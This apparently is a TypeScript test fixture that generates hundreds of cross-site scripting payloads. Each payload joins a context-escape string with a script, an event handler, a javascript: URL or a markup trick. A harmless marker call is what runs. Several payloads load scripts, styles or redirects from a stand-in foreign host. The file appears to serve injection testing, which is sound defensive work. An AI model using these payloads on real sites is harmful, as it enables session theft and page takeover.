/** Called by a payload that runs; `shown-pages.ts` records it. */
const RUN = 'ran(1)';
/** An unused host: a request to it comes from a payload. */
export const FOREIGN = 'evil-4711.example';

/** Ends of the context of a text: an element, an attribute, a script, a comment, a style. */
const WAYS_OUT = [
  '',
  '">',
  "'>",
  '` ',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '--><!--',
  ']]>',
  '\\">',
  '&quot;>',
  '\u2028',
];
const CORES = [
  `<script>${RUN}</script>`,
  `<script src=//${FOREIGN}/a.js></script>`,
  `<ScRiPt/x>${RUN}</sCrIpT >`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="//${FOREIGN}/a.swf"></object>`,
  `<embed src="//${FOREIGN}/a.html">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" javascript&colon;${RUN}">x</a>`,
  `<a href="data:text/html,<script>opener.${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`,
  `<p onmouseover=${RUN}>x</p>`,
  `<b style="background:url(//${FOREIGN}/b)">x</b>`,
  `<style>@import '//${FOREIGN}/c.css';</style>`,
  `<link rel=stylesheet href=//${FOREIGN}/d.css>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}/">`,
  `<base href=//${FOREIGN}/>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"+${RUN}+"`,
  `';${RUN};//`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
];

/** Over 500 texts that run or load something if parsed as markup. */
export const payloads: readonly string[] = WAYS_OUT.flatMap((out) => CORES.map((core) => out + core));
/** For short fields with unique values. */
export function shortPayload(digit: number): string {
  return `<a onclick=ran(${digit})>`;
}

/** Link addresses that run or leave their attribute; the forms accept some of them. */
export const addressPayloads: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//${FOREIGN}/`,
  `/\\${FOREIGN}/`,
  `https://${FOREIGN}/"onmouseover=${RUN}//`,
  `https://${FOREIGN}/'><script>${RUN}</script>`,
  `/BaseSearch?val="><script>${RUN}</script>`,
];
